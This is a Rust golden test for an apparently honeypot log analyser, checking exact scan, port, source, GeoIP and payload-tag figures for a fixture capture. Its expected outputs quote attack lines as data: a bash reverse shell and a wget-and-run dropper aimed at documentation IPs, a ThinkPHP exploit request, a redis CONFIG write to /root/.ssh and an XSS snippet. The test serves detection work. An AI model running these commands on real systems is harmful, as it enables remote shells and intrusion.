//! Golden test: the fixture capture (`common::write_fixture`) with every
//! figure worked out by hand and checked exactly, in JSON, text and CSV.
//!
//! The capture: A scans ports 1000-1029 of one host in 58 s (vertical) and
//! later hits 445, 445, 3389 (kernel LOG lines); B touches port 22 on six
//! hosts in 50 s (horizontal); C sends GPON and ThinkPHP exploits on day 1
//! and Log4Shell on day 2; D (IPv6) tries an ssh password and a redis
//! CONFIG; E sends a hostile payload with a reverse shell; F is a tcppc-go
//! session with a wget dropper. Countries: A, E NL; B RU; C CN.

mod common;

use common::*;
use serde_json::{Value, json};

fn fixture_report(extra: &[&str]) -> (Value, std::path::PathBuf) {
    let dir = tmp_dir("golden");
    write_fixture(&dir);
    let db = tiny_mmdb(&dir);
    let d = dir.to_string_lossy().into_owned();
    let dbs = db.to_string_lossy().into_owned();
    let mut a = vec![
        d.as_str(),
        "--geoip",
        dbs.as_str(),
        "--log-year",
        "2026",
        "--grep",
        "wget",
        "--grep",
        "shell",
    ];
    a.extend_from_slice(extra);
    (json_report(&a), dir)
}

fn names_counts(v: &Value) -> Vec<(String, u64)> {
    v.as_array()
        .expect("array")
        .iter()
        .map(|x| (x["name"].as_str().unwrap_or("").to_owned(), u(&x["events"])))
        .collect()
}

fn nc(v: &[(&str, u64)]) -> Vec<(String, u64)> {
    v.iter().map(|(a, b)| ((*a).to_owned(), *b)).collect()
}

#[test]
fn every_figure_of_the_fixture() {
    let (r, dir) = fixture_report(&[]);
    let d = dir.to_string_lossy();

    // Inputs: directory order is by name.
    let inputs: Vec<(String, u64, u64, u64)> = r["inputs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| {
            (
                i["path"].as_str().unwrap().to_owned(),
                u(&i["lines"]),
                u(&i["events"]),
                u(&i["skipped"]),
            )
        })
        .collect();
    assert_eq!(
        inputs,
        vec![
            (format!("{d}/events-2026-01-01.jsonl"), 48, 48, 0),
            (format!("{d}/events-2026-01-02.jsonl.gz"), 6, 6, 0),
            (format!("{d}/kern.log"), 3, 3, 0),
            (format!("{d}/tcppc.json"), 1, 2, 0),
        ]
    );

    assert_eq!(
        r["totals"],
        json!({
            "lines": 58, "parsed": 59, "events": 59, "connections": 46, "skipped": 0,
            "distinct_sources": 6, "distinct_ports": 38, "distinct_destinations": 8,
            "first": "2026-01-01T10:00:00.000000Z", "last": "2026-01-02T09:30:02.000000Z"
        })
    );

    assert_eq!(
        names_counts(&r["kinds"]),
        nc(&[
            ("session.connect", 42),
            ("session.close", 6),
            ("payload", 5),
            ("connection", 4),
            ("auth.attempt", 1),
            ("command", 1),
        ])
    );
    assert_eq!(
        names_counts(&r["services"]),
        nc(&[
            ("catchall", 36),
            ("ssh", 9),
            ("http", 6),
            ("port_for", 3),
            ("redis", 3),
            ("tcppc", 2),
        ])
    );

    let bucket = |start: &str, e: u64, c: u64, s: u64, p: u64| {
        json!({"start": start, "events": e, "connections": c, "distinct_sources": s,
               "distinct_ports": p, "estimated": false})
    };
    assert_eq!(
        r["days"],
        json!([
            bucket("2026-01-01T00:00:00Z", 48, 40, 4, 34),
            bucket("2026-01-02T00:00:00Z", 11, 6, 4, 5),
        ])
    );
    assert_eq!(
        r["buckets"],
        json!([
            bucket("2026-01-01T10:00:00Z", 36, 36, 2, 31),
            bucket("2026-01-01T11:00:00Z", 6, 2, 1, 2),
            bucket("2026-01-01T12:00:00Z", 3, 1, 1, 1),
            bucket("2026-01-01T12:30:00Z", 3, 1, 1, 1),
            bucket("2026-01-02T02:00:00Z", 2, 1, 1, 1),
            bucket("2026-01-02T03:00:00Z", 3, 3, 1, 2),
            bucket("2026-01-02T09:00:00Z", 3, 1, 1, 1),
            bucket("2026-01-02T09:30:00Z", 3, 1, 1, 1),
        ])
    );

    let port = |p: u16, e: u64, c: u64, s: u64| json!({"port": p, "events": e, "connections": c, "distinct_sources": s});
    assert_eq!(
        r["top_ports"],
        json!([
            port(22, 9, 7, 2),
            port(80, 6, 2, 1),
            port(6379, 3, 1, 1),
            port(8080, 3, 1, 1),
            port(8088, 3, 1, 1),
            port(445, 2, 2, 1),
            port(5555, 2, 1, 1),
            port(1000, 1, 1, 1),
            port(1001, 1, 1, 1),
            port(1002, 1, 1, 1),
        ])
    );
    assert_eq!(
        r["top_ports_by_sources"],
        json!([
            port(22, 9, 7, 2),
            port(80, 6, 2, 1),
            port(445, 2, 2, 1),
            port(1000, 1, 1, 1),
            port(1001, 1, 1, 1),
            port(1002, 1, 1, 1),
            port(1003, 1, 1, 1),
            port(1004, 1, 1, 1),
            port(1005, 1, 1, 1),
            port(1006, 1, 1, 1),
        ])
    );

    let src = |ip: &str, e: u64, c: u64, p: u64, first: &str, last: &str, cc: Option<&str>| {
        json!({"ip": ip, "events": e, "connections": c, "distinct_ports": p,
               "first_seen": first, "last_seen": last, "country": cc})
    };
    assert_eq!(
        r["top_sources"],
        json!([
            src(
                A,
                33,
                33,
                32,
                "2026-01-01T10:00:00Z",
                "2026-01-02T03:00:02Z",
                Some("NL")
            ),
            src(
                C,
                9,
                3,
                2,
                "2026-01-01T11:00:00Z",
                "2026-01-02T09:00:02Z",
                Some("CN")
            ),
            src(
                B,
                6,
                6,
                1,
                "2026-01-01T10:05:00Z",
                "2026-01-01T10:05:50Z",
                Some("RU")
            ),
            src(
                D,
                6,
                2,
                2,
                "2026-01-01T12:00:00Z",
                "2026-01-01T12:30:02Z",
                None
            ),
            src(
                E,
                3,
                1,
                1,
                "2026-01-02T09:30:00Z",
                "2026-01-02T09:30:02Z",
                Some("NL")
            ),
            src(
                F,
                2,
                1,
                1,
                "2026-01-02T02:00:00Z",
                "2026-01-02T02:00:01Z",
                None
            ),
        ])
    );

    assert_eq!(
        r["scans"],
        json!([
            {"src": A, "kind": "vertical", "distinct_ports": 32, "distinct_hosts": 1,
             "peak_ports": 30, "peak_hosts": 1,
             "window_start": "2026-01-01T10:00:00Z", "window_end": "2026-01-01T10:00:58Z",
             "first_seen": "2026-01-01T10:00:00Z", "last_seen": "2026-01-02T03:00:02Z",
             "span_seconds": 61202, "events": 33, "country": "NL"},
            {"src": B, "kind": "horizontal", "distinct_ports": 1, "distinct_hosts": 6,
             "peak_ports": 1, "peak_hosts": 6,
             "window_start": "2026-01-01T10:05:00Z", "window_end": "2026-01-01T10:05:50Z",
             "first_seen": "2026-01-01T10:05:00Z", "last_seen": "2026-01-01T10:05:50Z",
             "span_seconds": 50, "events": 6, "country": "RU"},
        ])
    );

    let geo = &r["geo"];
    assert_eq!(geo["note"], Value::Null);
    assert_eq!(geo["databases"][0][1], "GeoLite2-Country");
    assert_eq!(
        geo["countries"],
        json!([
            {"code": "NL", "name": "Netherlands", "events": 36, "sources": 2},
            {"code": "CN", "name": "China", "events": 9, "sources": 1},
            {"code": "RU", "name": "Russia", "events": 6, "sources": 1},
        ])
    );
    assert_eq!(
        geo["asns"],
        json!([
            {"asn": 64500, "org": "Example NL Hosting", "events": 36, "sources": 2},
            {"asn": 64502, "org": "Example CN Telecom", "events": 9, "sources": 1},
            {"asn": 64501, "org": "Example RU Net", "events": 6, "sources": 1},
        ])
    );
    assert_eq!(
        (u(&geo["unknown_events"]), u(&geo["unknown_sources"])),
        (8, 2)
    );

    let p = &r["payloads"];
    assert_eq!(u(&p["events_with_payload"]), 5);
    let tags: Vec<(String, u64, u64)> = p["tags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| {
            (
                t["name"].as_str().unwrap().to_owned(),
                u(&t["events"]),
                u(&t["sources"]),
            )
        })
        .collect();
    let want: Vec<(String, u64, u64)> = [
        ("wget-dropper", 2, 2),
        ("curl-dropper", 0, 0),
        ("tftp-dropper", 0, 0),
        ("gpon", 1, 1),
        ("dvr", 0, 0),
        ("thinkphp", 1, 1),
        ("log4shell", 1, 1),
        ("reverse-shell", 1, 1),
    ]
    .iter()
    .map(|(n, e, s)| ((*n).to_owned(), *e, *s))
    .collect();
    assert_eq!(tags, want);
    assert_eq!(
        p["grep"],
        json!([
            {"name": "wget", "description": "", "events": 2, "sources": 2},
            {"name": "shell", "description": "", "events": 1, "sources": 1},
        ])
    );
    assert_eq!(u(&p["hits_total"]), 5);
    type HitRow = (String, String, u64, Vec<Value>, Vec<Value>);
    let hits: Vec<HitRow> = p["hits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| {
            (
                h["ts"].as_str().unwrap().to_owned(),
                h["src"].as_str().unwrap().to_owned(),
                u(&h["dst_port"]),
                h["tags"].as_array().unwrap().clone(),
                h["patterns"].as_array().unwrap().clone(),
            )
        })
        .collect();
    assert_eq!(
        hits,
        vec![
            (
                "2026-01-01T11:00:01.000000Z".into(),
                C.into(),
                80,
                vec![json!("wget-dropper"), json!("gpon")],
                vec![json!("wget")]
            ),
            (
                "2026-01-01T11:10:01.000000Z".into(),
                C.into(),
                8080,
                vec![json!("thinkphp")],
                vec![]
            ),
            (
                "2026-01-02T02:00:01.000000Z".into(),
                F.into(),
                5555,
                vec![json!("wget-dropper")],
                vec![json!("wget")]
            ),
            (
                "2026-01-02T09:00:01.000000Z".into(),
                C.into(),
                80,
                vec![json!("log4shell")],
                vec![]
            ),
            (
                "2026-01-02T09:30:01.000000Z".into(),
                E.into(),
                8088,
                vec![json!("reverse-shell")],
                vec![json!("shell")]
            ),
        ]
    );
    // The hostile payload, escaped to printable ASCII.
    assert_eq!(
        p["hits"][4]["excerpt"],
        "POST /x.php?<script>alert(1)</script>\\x1b[31m shell=bash -i >& /dev/tcp/198.51.100.1/4444 0>&1\\r\\n"
    );
    assert_eq!(u(&p["hits"][4]["len"]), HOSTILE.len() as u64);
    assert_eq!(
        p["hits"][2]["excerpt"],
        "cd /tmp; wget http://198.51.100.5/x.sh; sh x.sh\\n"
    );

    assert_eq!(r["sessions"], Value::Null);
    assert_eq!(
        r["skipped"],
        json!({"total": 0, "by_reason": [], "lines": []})
    );
    assert_eq!(u(&r["params"]["bucket_seconds"]), 1800);
    assert_eq!(u(&r["params"]["scan_window_seconds"]), 600);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn sessions_of_one_source() {
    let (r, dir) = fixture_report(&["--src", C, "--sessions"]);
    assert_eq!(u(&r["totals"]["events"]), 9);
    assert_eq!(u(&r["totals"]["parsed"]), 59);
    let sessions = r["sessions"].as_array().expect("sessions listed");
    let ids: Vec<&str> = sessions.iter().map(|s| s["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["s1", "s2", "s5"]);
    assert_eq!(
        sessions[1],
        json!({
            "id": "s2", "src": C, "dst_port": 8080, "service": "catchall",
            "start": "2026-01-01T11:10:00.000000Z", "end": "2026-01-01T11:10:02.000000Z",
            "events": [
                {"ts": "2026-01-01T11:10:00.000000Z", "kind": "session.connect", "detail": ""},
                {"ts": "2026-01-01T11:10:01.000000Z", "kind": "payload",
                 "detail": "GET /index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array HTTP/1.1\\r\\n\\r\\n"},
                {"ts": "2026-01-01T11:10:02.000000Z", "kind": "session.close", "detail": "client_closed"},
            ]
        })
    );
    // D's redis session shows the command line and the credentials.
    let (r, _) = fixture_report(&["--src", D, "--sessions"]);
    let s = r["sessions"].as_array().unwrap();
    assert_eq!(s.len(), 2);
    assert_eq!(s[0]["events"][1]["detail"], "user=root password=123456");
    assert_eq!(s[1]["events"][1]["detail"], "CONFIG set dir /root/.ssh");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn filters_select_exactly() {
    // Days come from the buckets when buckets tile a day, else directly:
    // the same figures either way.
    let (tiled, _) = fixture_report(&[]);
    let (direct, _) = fixture_report(&["--bucket", "7m"]);
    assert_eq!(tiled["days"], direct["days"]);
    // Epoch-aligned 420 s buckets: 10 of them hold events.
    assert_eq!(direct["buckets"].as_array().unwrap().len(), 10);
    let (r, dir) = fixture_report(&["--since", "2026-01-02", "--port", "80"]);
    assert_eq!(u(&r["totals"]["events"]), 3);
    assert_eq!(r["top_sources"][0]["ip"], C);
    let (r, _) = fixture_report(&["--service", "ssh"]);
    assert_eq!(
        (
            u(&r["totals"]["events"]),
            u(&r["totals"]["distinct_sources"])
        ),
        (9, 2)
    );
    let (r, _) = fixture_report(&["--src", "198.51.100.0/24"]);
    assert_eq!(u(&r["totals"]["events"]), 36);
    let (r, _) = fixture_report(&["--until", "2026-01-01T10:05:00Z"]);
    assert_eq!(u(&r["totals"]["events"]), 30);
    assert_eq!(r["scans"].as_array().unwrap().len(), 1);
    let (r, _) = fixture_report(&["--bucket", "1d", "--top", "2", "--scan-min-ports", "31"]);
    assert_eq!(r["buckets"].as_array().unwrap().len(), 2);
    assert_eq!(r["top_ports"].as_array().unwrap().len(), 2);
    // A has 32 distinct ports but only 30 within one window: no longer a scan.
    let scans: Vec<&str> = r["scans"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["src"].as_str().unwrap())
        .collect();
    assert_eq!(scans, [B]);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn text_and_csv_carry_the_same_figures() {
    let dir = tmp_dir("golden-text");
    write_fixture(&dir);
    let d = dir.to_string_lossy().into_owned();
    let text = run(&[&d, "--log-year", "2026", "--grep", "shell"]).unwrap();
    assert!(
        text.contains("events: 59   connections: 46   sources: 6   ports: 38   destinations: 8"),
        "{text}"
    );
    assert!(
        text.contains("  2026-01-01     48          40       4    34"),
        "{text}"
    );
    assert!(
        text.contains("no GeoIP database given: pass --geoip FILE"),
        "{text}"
    );
    assert!(text.contains("Scans: 2 sources"), "{text}");
    // Attacker bytes never reach the terminal raw.
    assert!(!text.contains('\x1b'));
    assert!(text.contains("\\x1b[31m shell=bash"));

    let csv = run(&[&d, "--log-year", "2026", "--format", "csv"]).unwrap();
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines[0], "table,key,field,value");
    for want in [
        "totals,all,events,59",
        "totals,all,distinct_ports,38",
        "day,2026-01-01T00:00:00Z,distinct_sources,4",
        "bucket,2026-01-01T10:00:00Z,distinct_ports,31",
        "top_ports,22,distinct_sources,2",
        "scan,198.51.100.10,peak_ports,30",
        "scan,192.0.2.20,kind,horizontal",
        "tag,gpon,events,1",
    ] {
        assert!(lines.contains(&want), "missing {want}");
    }
    let _ = std::fs::remove_dir_all(&dir);
}
